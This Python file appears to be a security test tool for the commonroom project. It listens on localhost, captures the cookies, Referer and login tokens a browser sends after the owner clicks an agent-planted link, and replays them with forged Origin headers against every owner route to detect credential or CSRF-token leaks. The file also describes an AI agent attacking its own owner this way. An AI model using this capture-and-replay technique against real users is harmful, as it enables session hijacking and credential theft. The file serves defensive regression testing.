"""An agent's own listener on 127.0.0.1: it takes whatever the owner's browser sends it and replays it.

The attack of issue 24 item 1: an agent puts `http://127.0.0.1:<this port>/...`
in a proposal; the host clicks it on the owner page; the browser's request
brings along what it brings (a cookie for 127.0.0.1 went to every port, a
Referer, a query). This listener logs each request it receives and replays
everything in it against every owner route: the cookie header as is, any
`token=` it can find (query, Referer, body) on the old and new login routes,
a `Referer`/`Origin` of the owner page. It prints one JSON line per request
it received: `{"received": {...}, "replayed": [{"method", "path", "status",
"leak"}...]}` where `leak` is true when an answer carried anything a replay
could use (a Set-Cookie, a CSRF token, a credential).

Usage: `python tools/hostile/owner_listener.py --owner-port N` prints
`{"port": P}` first, then serves until stdin closes (the parent ends it).
"""

from __future__ import annotations

import argparse
import http.client
import http.server
import json
import re
import sys
import threading
from typing import Any
from urllib.parse import parse_qs, urlsplit

from commonroom.protocol.operations import CALLS

TOKEN = re.compile(r"token=([A-Za-z0-9_\-]+)")
LEAKS = re.compile(r'set-cookie|commonroom-csrf|"credential"|"ticket"|own_[A-Za-z0-9_\-]{20,}', re.I)


def owner_routes() -> list[tuple[str, str]]:
    """Every route of the owner listener that acts or reads as the owner."""
    routes = [("GET", "/owner/api/workspace/observe"), ("POST", "/owner/stream-ticket"),
              ("POST", "/owner/login-link"), ("POST", "/owner/logout-all")]
    routes += [(op.method, "/owner/api" + op.path) for op in CALLS if op.capability is not None]
    return routes


def _send(port: int, method: str, path: str, headers: dict[str, str], body: bytes | None
          ) -> tuple[int, str]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.request(method, path, body=body, headers=headers)
        answer = conn.getresponse()
        # A stream that opened would never end: its head is the answer.
        text = "" if answer.getheader("Content-Type", "").startswith("text/event-stream") else \
            answer.read(65536).decode(errors="replace")
        head = "\n".join(f"{k}: {v}" for k, v in answer.getheaders())
        return answer.status, head + "\n\n" + text
    finally:
        conn.close()


def replay(owner_port: int, received: dict[str, Any]) -> list[dict[str, Any]]:
    """Everything the browser sent, thrown at every owner route."""
    got = {k.lower(): v for k, v in received["headers"].items()}
    carried: dict[str, str] = {"Host": f"127.0.0.1:{owner_port}"}
    if "cookie" in got:
        carried["Cookie"] = got["cookie"]
    owner_origin = f"http://127.0.0.1:{owner_port}"
    forged = {**carried, "Origin": owner_origin, "Referer": owner_origin + "/",
              "Content-Type": "application/json"}
    tokens = set(TOKEN.findall(" ".join([received["path"], got.get("referer", ""), received["body"]])))
    results: list[dict[str, Any]] = []

    def attempt(method: str, path: str, headers: dict[str, str], body: bytes | None) -> None:
        status, text = _send(owner_port, method, path, headers, body)
        results.append({"method": method, "path": path.split("?", 1)[0], "status": status,
                        "leak": bool(LEAKS.search(text))})

    # The old attack, step one: the page handed out the CSRF token to a cookie.
    attempt("GET", "/", carried, None)
    for token in tokens:  # a login token that rode along anywhere
        attempt("GET", f"/?token={token}", carried, None)
        attempt("POST", "/owner/login", forged, json.dumps({"token": token}).encode())
    for method, path in owner_routes():
        attempt(method, path, forged, b"{}" if method == "POST" else None)
    query = parse_qs(urlsplit(received["path"]).query)
    for ticket in query.get("ticket", []):
        attempt("GET", f"/owner/api/workspace/observe?ticket={ticket}", carried, None)
    return results


class Handler(http.server.BaseHTTPRequestHandler):
    owner_port = 0
    lock = threading.Lock()

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _handle(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode(errors="replace") if length else ""
        received = {"method": self.command, "path": self.path, "headers": dict(self.headers.items()),
                    "body": body}
        page = b"<!doctype html><title>thanks</title><p>Thanks for clicking."
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)
        replayed = replay(self.owner_port, received)
        with self.lock:
            print(json.dumps({"received": received, "replayed": replayed}), flush=True)

    do_GET = do_POST = do_HEAD = _handle


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--owner-port", type=int, required=True)
    args = parser.parse_args()
    Handler.owner_port = args.owner_port
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    print(json.dumps({"port": server.server_address[1]}), flush=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    sys.stdin.read()  # until the parent closes our stdin
    server.shutdown()


if __name__ == "__main__":
    main()
